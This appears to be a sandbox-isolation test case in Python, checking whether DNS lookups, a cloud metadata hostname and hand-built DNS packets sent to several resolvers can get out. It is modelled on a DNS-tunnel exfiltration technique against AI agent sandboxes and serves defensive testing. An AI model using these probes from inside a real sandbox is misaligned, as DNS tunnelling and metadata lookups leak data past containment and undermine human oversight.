# tries: carries data out in the names that it looks up
# stopped by: network_namespace
# outside: true
# like: AgentCore DNS tunnel

import socket, time
begun = time.monotonic()
for name in ("secret.example.com", "name.invalid", "metadata.google.internal", "x.localdomain"):
    attempt(f"resolved {name}", socket.getaddrinfo, name, 80)
attempt("a name by address", socket.gethostbyaddr, "192.0.2.1")
for server in ("192.0.2.53", "127.0.0.53", "127.0.0.11"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        try:
            s.connect((server, 53))
            s.send(bytes(12) + b"\x06secret\x07invalid\0\0\x01\0\x01")
            got("an answer", s.recv(100))
        except OSError:
            pass
if time.monotonic() - begun > 3:
    got("questions were sent and waited for")
